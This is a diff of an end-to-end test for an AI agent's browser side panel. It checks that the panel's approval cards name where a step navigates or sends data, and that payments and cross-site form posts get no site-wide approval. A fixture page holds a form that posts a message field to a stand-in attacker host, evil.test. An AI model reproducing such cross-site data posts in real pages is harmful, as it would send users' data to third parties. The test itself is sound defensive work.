@@ -6,7 +6,7 @@ import { launchTestBrowser } from './support/test-hosts';
 import { startFakeProvider, type FakeProvider } from '../fixtures/fake-provider/fake-provider-server';
 import { openPanel, screenshotBothSchemes, tabIdOf, texts } from './support/panel-harness';
 import { requireBuild } from './support/register-host';
-import { call, refIn } from './support/snapshot-refs';
+import { call, playSteps, refIn } from './support/snapshot-refs';
 import { serveRoutes, type StaticServer } from './support/static-server';
 import { uiCall } from './support/ui-call';
 
@@ -27,7 +27,13 @@ let tabId: number;
 beforeAll(async () => {
   requireBuild();
   shop = await serveDemoSite();
-  orders = await serveRoutes({ '/': ORDERS });
+  orders = await serveRoutes((url) => ({
+    '/': ORDERS,
+    '/away': `<!doctype html><title>Help</title><h1>Help</h1><a href="${url('/docs', 'docs.test')}">Read the docs</a>
+      <form method="post" action="${url('/collect', 'evil.test')}"><label>Message <input name="message"></label><button>Send a message</button></form>`,
+    '/docs': '<!doctype html><title>Docs</title><h1>Docs</h1>',
+    '/collect': '<!doctype html><title>Sent</title><h1>Sent</h1>',
+  }));
   fake = await startFakeProvider();
   ext = await launchTestBrowser();
   await ext.worker();
@@ -137,6 +143,8 @@ describe('the side panel runs a task given in it', () => {
     expect(await panel.$eval('[data-testid=approval-reason]', (element) => element.textContent)).toMatch(/spends money/);
     expect(await target.$eval('#s', (element) => element.textContent)).toBe('Nothing done yet');
     expect(await screenshotBothSchemes(panel, 'panel-approval')).toEqual([]);
+    // A payment is approved once or not at all: no "Approve for site" on its card.
+    expect(await panel.$('[data-testid=approve-site]')).toBeNull();
     // The Approve button has the focus: Enter alone approves.
     expect(await panel.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('approve');
     const firstId = await panel.$eval('[data-testid=approval-card]', (element) => element.getAttribute('data-approval-id'));
@@ -158,6 +166,38 @@ describe('the side panel runs a task given in it', () => {
     expect(await target.$eval('#s', (element) => element.textContent)).toBe('Order placed');
     expect(await panel.$$eval('[data-testid=step]', (items) => items.map((item) => item.getAttribute('data-state')))).toEqual(['ok', 'blocked', 'ok']);
     expect(await panel.$('[data-testid=approval-card]')).toBeNull();
+  });
+
+  it('names where a step takes the user or sends their data, and offers Approve for site only for a low-risk step', async () => {
+    await openOn(orders.url('/away', 'shop.test'));
+    const script = playSteps([
+      (r) => call('click', { ref: refIn(r, 'link', /^Read the docs$/) }),
+      () => call('navigate', { url: orders.url('/away', 'shop.test') }),
+      (r) => call('click', { ref: refIn(r, 'button', /^Send a message$/) }),
+      () => call('done', { success: true, summary: 'Read the docs; nothing sent.' }),
+    ]);
+    for (let turn = 0; turn < 8; turn += 1) fake.enqueue(script);
+    await runInPanel('Read the help');
+    await panel.waitForSelector('[data-testid=approval-card]', { timeout: 60_000 });
+    const docs = new URL(orders.url('/', 'docs.test')).host;
+    expect(await panel.$eval('[data-testid=approval-destination]', (element) => element.textContent)).toBe(docs);
+    expect(await panel.$eval('[data-testid=approve-site]', (element) => element.textContent)).toBe(`Approve for ${docs}`);
+    expect(await panel.$eval('[data-testid=approval-consequence]', (element) => element.textContent)).toBe(`It takes you to http://${docs}.`);
+    const firstId = await panel.$eval('[data-testid=approval-card]', (element) => element.getAttribute('data-approval-id'));
+    await panel.click('[data-testid=approve-site]');
+    // The form posts to another site: the card says where and which fields, and offers no "for site".
+    await panel.waitForFunction((id) => {
+      const card = document.querySelector('[data-testid=approval-card]');
+      return card !== null && card.getAttribute('data-approval-id') !== id;
+    }, { timeout: 60_000 }, firstId);
+    const evil = new URL(orders.url('/', 'evil.test')).host;
+    expect(await panel.$eval('[data-testid=approval-destination]', (element) => element.textContent)).toBe(`${evil} (POST: message)`);
+    expect(await panel.$('[data-testid=approve-site]')).toBeNull();
+    expect(await screenshotBothSchemes(panel, 'panel-approval-destination')).toEqual([]);
+    await panel.click('[data-testid=reject]');
+    await waitForStatus(panel, 'completed');
+    expect(target.url()).toBe(orders.url('/away', 'shop.test'));
+    fake.drop();
   });
 
   it("takes an answer to the agent's question and passes it to the model", async () => {
